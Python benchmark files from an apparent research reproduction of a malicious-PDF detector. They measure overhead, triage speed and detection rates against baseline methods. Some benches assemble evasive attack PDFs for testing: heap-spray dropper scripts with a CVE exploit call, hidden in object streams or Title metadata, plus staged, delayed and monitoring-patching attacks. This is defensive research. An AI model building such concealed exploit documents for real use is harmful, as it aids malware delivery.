"""Table XI — memory overhead of static analysis & instrumentation.

Paper: ~74 k Python objects / 5.3 MB for small documents, growing to
~1.08 M objects / 130.6 MB at 19.7 MB.  The shape: flat for small
files, then roughly linear in file size once stream payloads dominate.
"""

import tracemalloc

from repro.analysis import format_table
from repro.core.instrument import Instrumenter, estimate_python_objects
from repro.core.keys import KeyStore
from repro.corpus.sized import table_x_documents
from repro.pdf.document import PDFDocument

PAPER_ROWS = {
    "2 KB": (74095, 5.26),
    "9 KB": (74085, 5.26),
    "24 KB": (74112, 5.28),
    "325 KB": (74616, 5.63),
    "7.0 MB": (366845, 42.86),
    "19.7 MB": (1081771, 130.6),
}


def test_table11_memory_overhead(benchmark, emit):
    documents = table_x_documents()

    def run():
        rows = []
        for label, data in documents:
            instrumenter = Instrumenter(key_store=KeyStore.create(12), seed=12)
            tracemalloc.start()
            result = instrumenter.instrument(data, f"{label}.pdf")
            _current, peak = tracemalloc.get_traced_memory()
            tracemalloc.stop()
            objects = estimate_python_objects(PDFDocument.from_bytes(result.data))
            rows.append((label, objects, peak / (1024 * 1024)))
        return rows

    rows = benchmark.pedantic(run, rounds=1, iterations=1)

    table = []
    for label, objects, peak_mb in rows:
        paper_objects, paper_mb = PAPER_ROWS[label]
        table.append(
            [label, f"{objects}", f"{paper_objects}", f"{peak_mb:.2f}", f"{paper_mb:.2f}"]
        )
    emit(
        format_table(
            ["size", "objects (measured)", "objects (paper)",
             "peak MB (measured)", "peak MB (paper)"],
            table,
        )
    )

    by_label = {label: (objects, peak) for label, objects, peak in rows}
    # Shape: small files cluster; the 19.7 MB file needs much more of both.
    small_peaks = [by_label[l][1] for l in ("2 KB", "9 KB", "24 KB", "325 KB")]
    assert max(small_peaks) < by_label["7.0 MB"][1] < by_label["19.7 MB"][1]
    # Small files cluster (the paper's ~74 k plateau — ours lacks the
    # fixed interpreter baseline, so the cluster is just "same order").
    small_objects = [by_label[l][0] for l in ("2 KB", "9 KB", "24 KB")]
    assert max(small_objects) < 2 * min(small_objects)
    assert by_label["19.7 MB"][0] > 5 * by_label["325 KB"][0]
