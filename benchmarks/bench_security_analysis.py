"""§IV / Table I — security analysis against the advanced adversaries.

Regenerates the qualitative comparison as a measured matrix: each §IV
attack is mounted against the full pipeline and the outcome recorded.
"""

from repro.analysis import format_table
from repro.attacks import (
    delayed_attack_document,
    fake_message_attack_document,
    patch_out_monitoring,
    staged_attack_document,
    structural_mimicry_document,
)
from repro.attacks.mimicry import replay_epilogue_attack_document
from repro.attacks.staged import INSTALL_METHODS, trigger_event_for


def _staged_outcome(pipeline, method):
    protected = pipeline.protect(staged_attack_document(method=method), f"st-{method}.pdf")
    session = pipeline.session()
    try:
        report = session.open(protected, fire_close=False)
        session.reader.fire_event(report.outcome.handle, trigger_event_for(method))
        return session.verdict_for(protected).malicious
    finally:
        session.close()


def _patching_outcome(pipeline):
    from repro.corpus.malicious import heap_spray_dropper

    raw = heap_spray_dropper(seed=3).to_bytes()
    protected = pipeline.protect(raw, "victim.pdf")
    patched = patch_out_monitoring(protected.data)
    session = pipeline.session()
    try:
        outcome = session.open_raw(patched, "patched.pdf")
        # Defence holds when the patched script dies without a syscall.
        neutralized = (
            bool(outcome.handle.script_errors)
            and not session.system.filesystem.executables()
        )
        return neutralized
    finally:
        session.close()


def test_security_analysis_matrix(benchmark, pipeline, emit):
    def run():
        rows = []
        report = pipeline.scan(fake_message_attack_document(), "mimic-msg.pdf")
        rows.append(("mimicry: forged keyed message", report.verdict.malicious))
        report = pipeline.scan(replay_epilogue_attack_document(), "mimic-replay.pdf")
        rows.append(("mimicry: replayed epilogue", report.verdict.malicious))
        report = pipeline.scan(structural_mimicry_document(), "mimic-struct.pdf")
        rows.append(("mimicry: structural [8]", report.verdict.malicious))
        rows.append(("runtime patching", _patching_outcome(pipeline)))
        for method in sorted(INSTALL_METHODS):
            rows.append((f"staged via {method}", _staged_outcome(pipeline, method)))
        report = pipeline.scan(delayed_attack_document(), "delayed.pdf")
        rows.append(("delayed: setTimeOut", report.verdict.malicious))
        report = pipeline.scan(delayed_attack_document(use_interval=True), "interval.pdf")
        rows.append(("delayed: setInterval", report.verdict.malicious))
        return rows

    rows = benchmark.pedantic(run, rounds=1, iterations=1)
    emit(
        format_table(
            ["advanced attack (§IV)", "countermeasure held"],
            [[name, "yes" if held else "NO"] for name, held in rows],
        )
    )
    failures = [name for name, held in rows if not held]
    assert not failures, f"countermeasures failed for: {failures}"
