"""Triage fast path (``pipeline.scan(..., triage=True)``), both
directions.

Phase 1 of the fast path skipped emulation only for provably *clean*
documents (see ``BENCH_triage_phase1.json`` for the pre-proof-tier
numbers).  With the abstract-interpretation proof tier
(``repro.jsast.absint``), the pipeline also skips emulation for
documents *proven malicious* — a must-executed heap spray over the
detector's memory threshold, a staged-eval exploit, a drop-and-launch
export — so the triaged fraction on malicious-heavy corpora rises
sharply.

Three workloads:

* **benign**     — benign-only corpus; the headline latency win.
* **mixed**      — benign + malicious; most malicious documents are
  now *proven* and skipped too.
* **obfuscated** — every script hidden under 3 layers of
  ``eval(unescape("%.."))`` staging; the classic one-shot rules fail
  open on all of them, the proof tier peels and settles them.

Equivalence contract asserted per document:

* triaged **benign**: verdict byte-identical to the full run (flag,
  malscore, feature bits);
* triaged **malicious** (statically proven): the full run must flag it
  too — malicious by score, or crashed by its own exploit (a crash is
  a detection event); exact feature bits are not required, because the
  proof guarantees the behaviour, not the payload-dependent bit mix;
* untriaged: both configurations run full emulation — byte-identical.

Emits ``BENCH_triage.json``.  ``REPRO_PAPER_SCALE`` scales the corpora.
"""

from __future__ import annotations

import os
import time

from repro.analysis import format_table
from repro.core.pipeline import ProtectionPipeline
from repro.corpus import CorpusConfig, build_dataset, dataset_items
from repro.corpus.obfuscated import obfuscated_corpus

SEED = 1404


def benign_corpus() -> CorpusConfig:
    if os.environ.get("REPRO_PAPER_SCALE"):
        return CorpusConfig(n_benign=400, n_benign_with_js=80, n_malicious=0)
    return CorpusConfig(n_benign=24, n_benign_with_js=8, n_malicious=0)


def mixed_corpus() -> CorpusConfig:
    if os.environ.get("REPRO_PAPER_SCALE"):
        return CorpusConfig(n_benign=200, n_benign_with_js=40, n_malicious=150)
    return CorpusConfig(n_benign=12, n_benign_with_js=4, n_malicious=12)


def obfuscated_items():
    if os.environ.get("REPRO_PAPER_SCALE"):
        return obfuscated_corpus(n_benign=40, n_malicious=40, seed=SEED)
    return obfuscated_corpus(n_benign=6, n_malicious=6, seed=SEED)


def _scan_all(items, triage):
    pipeline = ProtectionPipeline(seed=SEED, triage=triage)
    reports = {}
    triaged = 0
    start = time.perf_counter()
    for name, data in items:
        report = pipeline.scan(data, name)
        triaged += report.triaged
        reports[name] = report
    seconds = time.perf_counter() - start
    return reports, triaged, seconds


def _verdict_tuple(report):
    return (
        report.verdict.malicious,
        report.verdict.malscore,
        report.verdict.features.bits,
    )


def _check_equivalence(fast, full):
    """Apply the per-document contract; returns the mismatch list."""
    mismatches = []
    for name, fast_report in fast.items():
        full_report = full[name]
        if fast_report.triaged and fast_report.verdict.malicious:
            if not (full_report.verdict.malicious or full_report.crashed):
                mismatches.append(name)
        elif _verdict_tuple(fast_report) != _verdict_tuple(full_report):
            mismatches.append(name)
    return mismatches


def _measure(items):
    full, _, full_s = _scan_all(items, triage=False)
    fast, triaged, fast_s = _scan_all(items, triage=True)
    mismatches = _check_equivalence(fast, full)
    assert not mismatches, f"triage changed a verdict: {mismatches}"
    proven_malicious = sum(
        1
        for r in fast.values()
        if r.triaged and r.verdict.malicious
    )
    return {
        "documents": len(items),
        "triaged": triaged,
        "triaged_fraction": round(triaged / max(len(items), 1), 4),
        "triaged_proven_malicious": proven_malicious,
        "full_seconds": round(full_s, 4),
        "triage_seconds": round(fast_s, 4),
        "speedup": round(full_s / max(fast_s, 1e-9), 2),
        "verdicts_identical": True,
    }


def test_bench_triage(emit, artifact):
    benign = _measure(dataset_items(build_dataset(benign_corpus())))
    mixed = _measure(dataset_items(build_dataset(mixed_corpus())))
    obfuscated = _measure(obfuscated_items())

    # The fast path must actually engage on the benign corpus and must
    # produce a measurable win there; equivalence is asserted inside
    # _measure for all workloads.
    assert benign["triaged"] > 0
    assert benign["speedup"] > 1.2
    # ISSUE 8 acceptance: with the proof tier, the mixed corpus is
    # mostly settled statically — including most malicious documents.
    assert mixed["triaged_fraction"] > 0.80
    assert mixed["triaged_proven_malicious"] > 0
    # Multi-layer staging is exactly what the proof tier peels: every
    # obfuscated document settles statically, in both directions.
    assert obfuscated["triaged_fraction"] == 1.0

    payload = {"benign": benign, "mixed": mixed, "obfuscated": obfuscated}
    rows = [
        (
            workload,
            f"{m['documents']}",
            f"{m['triaged']}",
            f"{m['triaged_proven_malicious']}",
            f"{m['full_seconds']:.3f}s",
            f"{m['triage_seconds']:.3f}s",
            f"{m['speedup']:.2f}x",
        )
        for workload, m in payload.items()
    ]
    emit(
        "Triage fast path, both directions (equivalent on all workloads)\n"
        + format_table(
            [
                "workload",
                "docs",
                "triaged",
                "proven-mal",
                "full",
                "triage",
                "speedup",
            ],
            rows,
        )
    )
    artifact("BENCH_triage.json", payload)
