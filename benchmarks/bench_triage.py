"""Benign-triage fast path (``pipeline.scan(..., triage=True)``).

The static analyzer (``repro.jsast``) lets the pipeline skip Phase II
emulation for documents whose JavaScript is provably uninteresting:
no suspicious findings, no side-effect APIs, no embedded-file or
rich-media guards.  This bench measures what that buys on the workload
it targets — a benign-dominated corpus, the common case at a mail
gateway — and asserts the one property that makes the fast path safe
to enable: **verdicts are byte-identical with triage on and off**.

Two workloads:

* **benign** — benign-only corpus; the headline latency win.
* **mixed**  — benign + malicious; speedup is diluted (malicious
  documents always take the full path) but equivalence must still
  hold on every document.

Emits ``BENCH_triage.json``.  ``REPRO_PAPER_SCALE`` scales the corpora.
"""

from __future__ import annotations

import os
import time

from repro.analysis import format_table
from repro.core.pipeline import ProtectionPipeline
from repro.corpus import CorpusConfig, build_dataset, dataset_items

SEED = 1404


def benign_corpus() -> CorpusConfig:
    if os.environ.get("REPRO_PAPER_SCALE"):
        return CorpusConfig(n_benign=400, n_benign_with_js=80, n_malicious=0)
    return CorpusConfig(n_benign=24, n_benign_with_js=8, n_malicious=0)


def mixed_corpus() -> CorpusConfig:
    if os.environ.get("REPRO_PAPER_SCALE"):
        return CorpusConfig(n_benign=200, n_benign_with_js=40, n_malicious=150)
    return CorpusConfig(n_benign=12, n_benign_with_js=4, n_malicious=12)


def _scan_all(items, triage):
    pipeline = ProtectionPipeline(seed=SEED, triage=triage)
    verdicts = []
    triaged = 0
    start = time.perf_counter()
    for name, data in items:
        report = pipeline.scan(data, name)
        triaged += report.triaged
        verdicts.append(
            (
                name,
                report.verdict.malicious,
                report.verdict.malscore,
                report.verdict.features.bits,
            )
        )
    seconds = time.perf_counter() - start
    return sorted(verdicts), triaged, seconds


def _measure(items):
    full, _, full_s = _scan_all(items, triage=False)
    fast, triaged, fast_s = _scan_all(items, triage=True)
    assert fast == full, "triage changed a verdict"
    return {
        "documents": len(items),
        "triaged": triaged,
        "triaged_fraction": round(triaged / max(len(items), 1), 4),
        "full_seconds": round(full_s, 4),
        "triage_seconds": round(fast_s, 4),
        "speedup": round(full_s / max(fast_s, 1e-9), 2),
        "verdicts_identical": True,
    }


def test_bench_triage(emit, artifact):
    benign = _measure(dataset_items(build_dataset(benign_corpus())))
    mixed = _measure(dataset_items(build_dataset(mixed_corpus())))

    # The fast path must actually engage on the benign corpus and must
    # produce a measurable win there; equivalence is asserted inside
    # _measure for both workloads.
    assert benign["triaged"] > 0
    assert benign["speedup"] > 1.2

    payload = {"benign": benign, "mixed": mixed}
    rows = [
        (
            workload,
            f"{m['documents']}",
            f"{m['triaged']}",
            f"{m['full_seconds']:.3f}s",
            f"{m['triage_seconds']:.3f}s",
            f"{m['speedup']:.2f}x",
        )
        for workload, m in payload.items()
    ]
    emit(
        "Benign-triage fast path (verdicts identical on both workloads)\n"
        + format_table(
            ["workload", "docs", "triaged", "full", "triage", "speedup"],
            rows,
        )
    )
    artifact("BENCH_triage.json", payload)
