"""PDF front-end throughput — allocation-lean tokenizer/cascade/parse.

The headline artifact for the front-end rework: tokenizer throughput
(fast lexer vs the frozen pre-optimisation reference), filter-cascade
decode throughput (bytearray chaining vs per-layer ``bytes``
materialisation), and full-parse wall clock on the padding-dominated
Table X tiers against a parser subclass running the old front end
(reference lexer + whole-buffer recovery scan).

Equivalence is part of the contract, not a separate test: every parse
pair is required to re-serialise to byte-identical documents, on the
Table X tiers *and* on the full golden corpus (whose scan verdicts are
independently pinned by ``tests/batch/test_golden_corpus.py``).

Results land in ``BENCH_pdf.json``.
"""

from __future__ import annotations

import statistics
import time

from repro.analysis import format_table
from repro.corpus import build_dataset, dataset_items
from repro.corpus.sized import table_x_documents
from repro.pdf import filters
from repro.pdf._lexer_reference import ReferenceLexer
from repro.pdf.lexer import Lexer, TokenType
from repro.pdf.objects import PDFDict, PDFName, PDFStream
from repro.pdf.parser import PDFParser
from repro.pdf.writer import write_pdf

from tests.batch.golden import GOLDEN_CONFIG

#: Repeats per measurement; medians damp scheduler noise.
ROUNDS = 3

#: In-test floor for the median full-parse speedup on the
#: padding-dominated tiers.  Deliberately far below the measured
#: ~16-80x so CI machine variance cannot flake the job; the committed
#: artifact records the real numbers.
SPEEDUP_FLOOR = 1.5

#: Tiers large enough to be padding-dominated (the small tiers are
#: fixed-overhead-dominated and measure nothing about the rework).
PADDED_TIERS = ("325 KB", "7.0 MB", "19.7 MB")


class OldFrontEndParser(PDFParser):
    """The pre-rework front end: reference lexer, whole-buffer recovery."""

    lexer_cls = ReferenceLexer
    recovery_skips_covered = False


def _median_time(fn, rounds: int = ROUNDS) -> float:
    times = []
    for _ in range(rounds):
        start = time.perf_counter()
        fn()
        times.append(time.perf_counter() - start)
    return statistics.median(times)


# -- tokenizer ---------------------------------------------------------------


def _token_corpus(objects: int = 1500) -> bytes:
    """Token-dense object syntax (no binary payloads, lexable end to end)."""
    parts = []
    for i in range(objects):
        parts.append(
            b"%d 0 obj << /Type /X%d /Kids [1 2.5 -3 (literal string %d) "
            b"<DEADBEEF00> /Name%d true false null %d 0 R] >> endobj\n"
            % (i + 1, i, i, i, i + 2)
        )
    return b"".join(parts)


def _drain(lexer_cls, data: bytes) -> int:
    lexer = lexer_cls(data)
    count = 0
    while lexer.next_token().type is not TokenType.EOF:
        count += 1
    return count


# -- cascade -----------------------------------------------------------------


_CASCADE = ["FlateDecode", "ASCIIHexDecode", "RunLengthDecode"]


def _cascade_stream(payload: bytes) -> PDFStream:
    from repro.pdf.objects import PDFArray

    d = PDFDict()
    d[PDFName("Filter")] = PDFArray([PDFName(n) for n in _CASCADE])
    return PDFStream(d, filters.encode_cascade(payload, _CASCADE))


def _decode_per_layer(raw: bytes) -> bytes:
    # The old cascade runner: one bytes object materialised per layer.
    data = raw
    for name in _CASCADE:
        data = filters.decode(name, data)
    return data


# -- the benchmark -----------------------------------------------------------


def test_pdf_frontend_speedup(benchmark, emit, artifact):
    tiers = table_x_documents()
    token_data = _token_corpus()
    cascade_payload = (b"the quick brown fox jumps over the lazy dog " * 512) * 16
    cascade_stream = _cascade_stream(cascade_payload)
    golden_items = dataset_items(build_dataset(GOLDEN_CONFIG))

    def run():
        # Tokenizer throughput: both lexers drain the same corpus.
        fast_tokens = _drain(Lexer, token_data)
        ref_tokens = _drain(ReferenceLexer, token_data)
        fast_lex = _median_time(lambda: _drain(Lexer, token_data))
        ref_lex = _median_time(lambda: _drain(ReferenceLexer, token_data))

        # Cascade decode: chained bytearrays vs per-layer bytes.
        chained = filters.decode_stream(cascade_stream)
        per_layer = _decode_per_layer(cascade_stream.raw_data)
        chained_t = _median_time(lambda: filters.decode_stream(cascade_stream))
        layered_t = _median_time(
            lambda: _decode_per_layer(cascade_stream.raw_data)
        )

        # Full parse per tier, both front ends, stores re-serialised.
        tier_rows = []
        stores_identical = True
        for label, data in tiers:
            new_parsed = PDFParser(data).parse()
            old_parsed = OldFrontEndParser(data).parse()
            new_bytes = write_pdf(new_parsed.store, new_parsed.trailer)
            old_bytes = write_pdf(old_parsed.store, old_parsed.trailer)
            if new_bytes != old_bytes:
                stores_identical = False
            new_t = _median_time(lambda d=data: PDFParser(d).parse())
            old_t = _median_time(lambda d=data: OldFrontEndParser(d).parse())
            tier_rows.append((label, len(data), new_t, old_t))

        # Golden corpus: byte-identical stores document by document.
        golden_identical = True
        for _name, data in golden_items:
            new_parsed = PDFParser(data).parse()
            old_parsed = OldFrontEndParser(data).parse()
            if write_pdf(new_parsed.store, new_parsed.trailer) != write_pdf(
                old_parsed.store, old_parsed.trailer
            ):
                golden_identical = False

        return {
            "tokens": (fast_tokens, ref_tokens),
            "lex": (fast_lex, ref_lex),
            "cascade_equal": chained == per_layer == cascade_payload,
            "cascade": (chained_t, layered_t),
            "tiers": tier_rows,
            "stores_identical": stores_identical,
            "golden_identical": golden_identical,
        }

    result = benchmark.pedantic(run, rounds=1, iterations=1)

    fast_tokens, ref_tokens = result["tokens"]
    fast_lex, ref_lex = result["lex"]
    mb = len(token_data) / 1e6
    tokenizer = {
        "corpus_bytes": len(token_data),
        "tokens": fast_tokens,
        "fast_mb_per_s": round(mb / fast_lex, 1),
        "reference_mb_per_s": round(mb / ref_lex, 1),
        "speedup": round(ref_lex / fast_lex, 2),
    }

    chained_t, layered_t = result["cascade"]
    cascade_mb = len(cascade_payload) / 1e6
    cascade = {
        "filters": _CASCADE,
        "payload_bytes": len(cascade_payload),
        "chained_mb_per_s": round(cascade_mb / chained_t, 1),
        "per_layer_mb_per_s": round(cascade_mb / layered_t, 1),
        "speedup": round(layered_t / chained_t, 2),
    }

    rows = []
    padded_speedups = []
    for label, nbytes, new_t, old_t in result["tiers"]:
        speedup = old_t / new_t if new_t else float("inf")
        if label in PADDED_TIERS:
            padded_speedups.append(speedup)
        rows.append(
            {
                "size": label,
                "bytes": nbytes,
                "new_seconds": round(new_t, 5),
                "old_seconds": round(old_t, 5),
                "speedup": round(speedup, 2),
            }
        )
    median_padded = statistics.median(padded_speedups)

    emit(
        format_table(
            ["size", "bytes", "new (s)", "old (s)", "speedup"],
            [
                [
                    row["size"],
                    str(row["bytes"]),
                    f"{row['new_seconds']:.5f}",
                    f"{row['old_seconds']:.5f}",
                    f"{row['speedup']:.2f}x",
                ]
                for row in rows
            ],
        )
        + f"\ntokenizer: {tokenizer['fast_mb_per_s']} MB/s vs "
        + f"{tokenizer['reference_mb_per_s']} MB/s ({tokenizer['speedup']:.2f}x)"
        + f"\ncascade: {cascade['chained_mb_per_s']} MB/s vs "
        + f"{cascade['per_layer_mb_per_s']} MB/s ({cascade['speedup']:.2f}x)"
        + f"\nmedian full-parse speedup (padded tiers): {median_padded:.2f}x"
        + f"\nstores identical: tiers={result['stores_identical']} "
        + f"golden={result['golden_identical']}"
    )
    artifact(
        "BENCH_pdf.json",
        {
            "rounds": ROUNDS,
            "tokenizer": tokenizer,
            "cascade": cascade,
            "full_parse": rows,
            "padded_tiers": list(PADDED_TIERS),
            "median_padded_speedup": round(median_padded, 2),
            "stores_identical": result["stores_identical"],
            "golden_stores_identical": result["golden_identical"],
        },
    )

    # Equivalence is hard; wall-clock floors are loose (machine variance
    # must not flake CI) — the artifact records the real numbers.
    assert result["cascade_equal"], "cascade decoders disagreed"
    assert result["stores_identical"], "front ends disagreed on a Table X store"
    assert result["golden_identical"], "front ends disagreed on a golden store"
    assert median_padded > SPEEDUP_FLOOR, (
        f"median padded-tier speedup {median_padded:.2f}x under {SPEEDUP_FLOOR}x"
    )
    assert tokenizer["speedup"] > 1.0, "fast lexer slower than the reference"
