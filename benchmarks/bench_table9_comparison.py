"""Table IX — comparison with existing methods (FP / TP rates).

Paper:  N-grams 31 % / 84 %; PJScan 16 % / 85 %; PDFRate 2 % / 99 %;
Structural 0.05 % / 99 %; MDScan – / 89 %; Wepawet – / 68 %;
ours 0 / 97 %.  The *shape* to reproduce: the static learners are
accurate on known samples, the lexical/n-gram methods are noisy, the
dynamic-emulation methods miss context-dependent samples — and the
mimicry attack of [8] defeats the structural methods but not ours.
"""

from repro.analysis import format_table
from repro.attacks import structural_mimicry_document
from repro.baselines import (
    MDScanDetector,
    MarkovNGramDetector,
    PDFRateDetector,
    PJScanDetector,
    SignatureAVDetector,
    StructuralPathDetector,
    WepawetDetector,
    evaluate_detector,
)
from repro.baselines.base import train_test_split
from repro.corpus import CorpusConfig, build_dataset
from repro.corpus.dataset import Sample

PAPER_ROWS = {
    "N-grams [17]": ("31%", "84%"),
    "PJScan [7]": ("16%", "85%"),
    "PDFRate [4]": ("2%", "99%"),
    "Structural [5]": ("0.05%", "99%"),
    "MDScan [9]": ("N/A", "89%"),
    "Wepawet [18]": ("N/A", "68%"),
    "Signature AV": ("—", "low"),
    "Ours": ("0", "97%"),
}


def _our_detector_result(pipeline, test_samples):
    tp = fp = fn = tn = 0
    for sample in test_samples:
        report = pipeline.scan(sample.data, sample.name)
        flagged = report.verdict.malicious
        inert = report.did_nothing and sample.malicious
        if inert:
            continue  # excluded, as in Table VIII
        if sample.malicious and flagged:
            tp += 1
        elif sample.malicious:
            fn += 1
        elif flagged:
            fp += 1
        else:
            tn += 1
    return tp, fp, fn, tn


def test_table9_method_comparison(benchmark, pipeline, emit):
    dataset = build_dataset(
        CorpusConfig(n_benign=220, n_benign_with_js=60, n_malicious=160)
    )
    train, test = train_test_split(dataset.benign + dataset.malicious)

    detectors = [
        MarkovNGramDetector(),
        PJScanDetector(),
        PDFRateDetector(n_estimators=12),
        StructuralPathDetector(),
        MDScanDetector(),
        WepawetDetector(),
        SignatureAVDetector(),
    ]

    def run_all():
        results = []
        for detector in detectors:
            detector.fit(train)
            results.append(evaluate_detector(detector, test))
        ours = _our_detector_result(pipeline, test)
        return results, ours

    results, (tp, fp, fn, tn) = benchmark.pedantic(run_all, rounds=1, iterations=1)

    rows = []
    measured = {}
    for result in results:
        rows.append(
            [
                result.name,
                PAPER_ROWS.get(result.name, ("?", "?"))[0],
                f"{result.fp_rate:.1%}",
                PAPER_ROWS.get(result.name, ("?", "?"))[1],
                f"{result.tp_rate:.1%}",
            ]
        )
        measured[result.name] = result
    ours_tp_rate = tp / (tp + fn) if tp + fn else 0.0
    ours_fp_rate = fp / (fp + tn) if fp + tn else 0.0
    rows.append(["Ours", "0", f"{ours_fp_rate:.1%}", "97%", f"{ours_tp_rate:.1%}"])
    emit(
        format_table(
            ["method", "paper FP", "measured FP", "paper TP", "measured TP"], rows
        )
    )

    # Mimicry robustness (the paper's qualitative comparison §V-C2).
    mimic = Sample("mimic.pdf", structural_mimicry_document(), "malicious", "mimicry")
    mimicry_rows = []
    for result, detector in zip(results, detectors):
        mimicry_rows.append([result.name, "evaded" if not detector.predict(mimic) else "detected"])
    our_report = pipeline.scan(mimic.data, mimic.name)
    mimicry_rows.append(["Ours", "detected" if our_report.verdict.malicious else "evaded"])
    emit(format_table(["method", "vs structural mimicry [8]"], mimicry_rows))

    # Shape assertions.
    assert ours_fp_rate == 0.0
    assert ours_tp_rate >= 0.93
    assert measured["PDFRate [4]"].tp_rate >= 0.9
    assert measured["Structural [5]"].fp_rate <= 0.05
    assert measured["Signature AV"].tp_rate <= 0.3
    assert measured["Wepawet [18]"].tp_rate <= measured["PDFRate [4]"].tp_rate
    assert our_report.verdict.malicious  # mimicry does not evade us
    # ... but it evades at least one static learner.
    static_evaded = [
        not detector.predict(mimic)
        for result, detector in zip(results, detectors)
        if result.name in ("PDFRate [4]", "Structural [5]", "PJScan [7]")
    ]
    assert any(static_evaded)
