"""Table I — qualitative comparison of defence methods, with evidence.

The paper's Table I scores each method on: Difficult to Evade /
End-Host Deployment / Need Emulation / Low Overhead.  This bench backs
the qualitative cells with measurements on our corpus:

* *evasion*: each detector vs. three evasion families — structural
  mimicry [8], /ObjStm-hidden actions, metadata-hidden shellcode;
* *overhead*: per-sample decision latency.

End-host deployability and emulation need are architectural facts of
each reimplementation (noted in the table, not measured).
"""

import random
import time

from repro.analysis import format_table
from repro.attacks import structural_mimicry_document
from repro.baselines import (
    MDScanDetector,
    PDFRateDetector,
    PJScanDetector,
    SignatureAVDetector,
)
from repro.baselines.base import train_test_split
from repro.corpus import CorpusConfig, build_dataset
from repro.corpus import js_snippets as js
from repro.corpus.dataset import Sample
from repro.pdf.builder import DocumentBuilder
from repro.reader.exploits import CVE
from repro.reader.payload import Payload

PAPER_TABLE1 = {
    "Signature AV": ("No", "Yes", "No", "Yes"),
    "Structural [5]/[4]": ("No", "Yes", "No", "Yes"),
    "Extract-and-Emulate [9]": ("Neutral", "No", "Yes", "No"),
    "Lexical [7]": ("Neutral", "Yes", "No", "Yes"),
    "Our Method": ("Yes", "Yes", "No", "Yes"),
}


def _objstm_hidden_attack(seed=61) -> bytes:
    rng = random.Random(seed)
    builder = DocumentBuilder()
    builder.add_page("")
    builder.pad_with_objects(40)
    head = builder.add_javascript(
        js.spray_script(
            150, Payload.dropper(), rng=rng,
            exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng),
        )
    )
    builder.hide_in_object_stream([head])
    return builder.to_bytes()


def _title_hidden_attack(seed=62) -> bytes:
    rng = random.Random(seed)
    payload = Payload.dropper()
    builder = DocumentBuilder()
    builder.add_page("")
    builder.pad_with_objects(40)
    builder.set_info(Title=payload.with_sled(32))
    builder.add_javascript(
        js.spray_script(
            150, payload, rng=rng,
            exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng),
            hide_payload_in_title=True,
        )
    )
    return builder.to_bytes()


def test_table1_qualitative_matrix(benchmark, pipeline, emit):
    dataset = build_dataset(CorpusConfig(n_benign=120, n_benign_with_js=36, n_malicious=80))
    train, test = train_test_split(dataset.benign + dataset.malicious)

    evasion_samples = [
        Sample("mimic.pdf", structural_mimicry_document(), "malicious", "mimicry"),
        Sample("objstm.pdf", _objstm_hidden_attack(), "malicious", "objstm"),
        Sample("title.pdf", _title_hidden_attack(), "malicious", "title"),
    ]

    detectors = {
        "Signature AV": SignatureAVDetector(),
        "Structural [5]/[4]": PDFRateDetector(n_estimators=10),
        "Extract-and-Emulate [9]": MDScanDetector(),
        "Lexical [7]": PJScanDetector(),
    }

    def run():
        rows = []
        for label, detector in detectors.items():
            detector.fit(train)
            start = time.perf_counter()
            for sample in test[:40]:
                detector.predict(sample)
            latency_ms = (time.perf_counter() - start) / 40 * 1000
            evaded = sum(1 for s in evasion_samples if not detector.predict(s))
            rows.append((label, evaded, latency_ms))

        start = time.perf_counter()
        our_evaded = sum(
            1
            for s in evasion_samples
            if not pipeline.scan(s.data, s.name).verdict.malicious
        )
        our_latency_ms = (time.perf_counter() - start) / len(evasion_samples) * 1000
        rows.append(("Our Method", our_evaded, our_latency_ms))
        return rows

    rows = benchmark.pedantic(run, rounds=1, iterations=1)

    table = []
    for label, evaded, latency_ms in rows:
        paper = PAPER_TABLE1.get(label, ("?",) * 4)
        table.append(
            [
                label,
                paper[0],
                f"{evaded}/3 evasions slipped through",
                paper[2],
                f"{latency_ms:.1f} ms/sample",
            ]
        )
    emit(
        format_table(
            ["method", "paper: hard to evade", "measured evasion",
             "paper: needs emulation", "measured latency"],
            table,
        )
    )

    by_label = dict((label, (evaded, latency)) for label, evaded, latency in rows)
    # Our method: nothing slips through.
    assert by_label["Our Method"][0] == 0
    # Every static/lexical/emulation baseline loses at least one family.
    for label in ("Signature AV", "Structural [5]/[4]", "Extract-and-Emulate [9]"):
        assert by_label[label][0] >= 1, label
