"""Shared fixtures and reporting helpers for the benchmark suite.

Every benchmark regenerates one table or figure from the paper and
prints a paper-vs-measured comparison.  Scale is controlled by the
``REPRO_PAPER_SCALE`` environment variable: unset → reduced corpora
that finish in seconds; set → the paper's corpus sizes.
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import pytest

from repro.core.pipeline import ProtectionPipeline
from repro.corpus import CorpusConfig, build_dataset
from repro.obs import MemorySink, Observability


def bench_scale() -> CorpusConfig:
    """Corpus scale for statistics benches (Fig. 6, Table VI)."""
    if os.environ.get("REPRO_PAPER_SCALE"):
        from repro.corpus.dataset import paper_scale

        return paper_scale()
    return CorpusConfig(n_benign=400, n_benign_with_js=80, n_malicious=300)


def detection_scale() -> CorpusConfig:
    """Corpus scale for the detection-accuracy bench (Table VIII)."""
    if os.environ.get("REPRO_PAPER_SCALE"):
        from repro.corpus.dataset import eval_scale

        return eval_scale()
    return CorpusConfig(n_benign=80, n_benign_with_js=80, n_malicious=150)


@pytest.fixture(scope="session")
def stats_dataset():
    return build_dataset(bench_scale())


@pytest.fixture(scope="session")
def pipeline():
    return ProtectionPipeline(seed=1404)


@pytest.fixture()
def obs_memory():
    """A fresh Observability bundle capturing spans/events in memory.

    Benchmarks read phase timings out of the captured spans instead of
    keeping their own ``time.perf_counter()`` scaffolding.
    """
    return Observability(MemorySink())


@pytest.fixture()
def artifact():
    """Write a machine-readable benchmark artifact next to the repo root."""

    def _write(name: str, payload) -> Path:
        path = Path(__file__).resolve().parent.parent / name
        path.write_text(json.dumps(payload, indent=2, sort_keys=True) + "\n")
        return path

    return _write


@pytest.fixture()
def emit(capsys):
    """Print through pytest's capture so results land in the console."""

    def _emit(text: str) -> None:
        with capsys.disabled():
            sys.stdout.write("\n" + text + "\n")

    return _emit
