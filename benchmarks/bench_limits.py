"""Hostile-input rejection benchmark (``BENCH_limits.json``).

Measures time-to-structured-rejection for each malformed-corpus bomb
under the default budgets, and the overhead the budget layer adds to a
normal benign scan.  The acceptance bar: every bomb is rejected with a
named limit kind well inside its deadline — no hangs, no tracebacks.
"""

from __future__ import annotations

import time

import pytest

from repro.core.pipeline import ProtectionPipeline
from repro.limits import ScanLimits
from tests.data import malformed

